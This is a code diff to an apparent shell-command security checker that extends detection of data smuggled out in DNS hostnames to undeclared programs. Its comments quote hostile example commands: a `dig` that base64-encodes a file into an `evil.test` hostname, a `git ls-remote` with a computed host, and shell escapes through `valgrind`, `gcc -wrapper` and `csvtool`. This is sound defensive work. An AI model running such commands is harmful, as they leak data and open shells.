@@ -98,11 +98,11 @@ function uploads(t: TransferDecl, command: ShellCommand): boolean {
 }
 
 /** A host operand built from a computed part (`dig $(cat f | base64).evil.test`): the data leaves in the DNS query. */
-function dataInHostname(decl: ProgramDecl, command: ShellCommand): boolean {
-  if (!decl.resolves && !decl.network) return false;
+function dataInHostname(decl: ProgramDecl | undefined, command: ShellCommand): boolean {
   return command.argv.slice(1).some((a) => {
     if (!a.dynamic) return false;
-    const host = /^[a-z][a-z0-9+.-]*:\/\/([^/?#]*)/i.exec(a.pattern)?.[1]?.replace(/^[^@]*@/, '') ?? (decl.resolves ? a.pattern : null);
+    // a URL's host (any program: `git ls-remote https://$(…).x.test`), `host:port` of a network client, a lookup's name
+    const host = /^[a-z][a-z0-9+.-]*:\/\/([^/?#]*)/i.exec(a.pattern)?.[1]?.replace(/^[^@]*@/, '') ?? (decl?.resolves ? a.pattern : decl?.network && /^[^/\s]+:\d+$/.test(a.pattern) ? a.pattern.replace(/:\d+$/, '') : null);
     if (!host) return false;
     // a computed label inside a name with a literal domain after it: `*.evil.test`, `x*y.evil.test`
     return /\*/.test(host) && /\*[^.]*\.[a-z0-9-]+\.[a-z]{2,}/i.test(host) && !/^\*$/.test(host);
@@ -122,6 +122,7 @@ export function programFacts(command: ShellCommand): ProgramFacts {
   if (!decl) {
     // a program nobody declared, handed a shell (`valgrind /bin/sh`, `gcc -wrapper /bin/sh,-s`, `csvtool call '/bin/sh;false'`)
     if (command.argv.slice(1).some((a) => SHELL_PATH.test(a.value))) add('hidden-code', command.name);
+    if (dataInHostname(undefined, command)) add('data-in-hostname', command.name);
     return facts;
   }
   if (asksOnlyForHelp(command)) return facts;
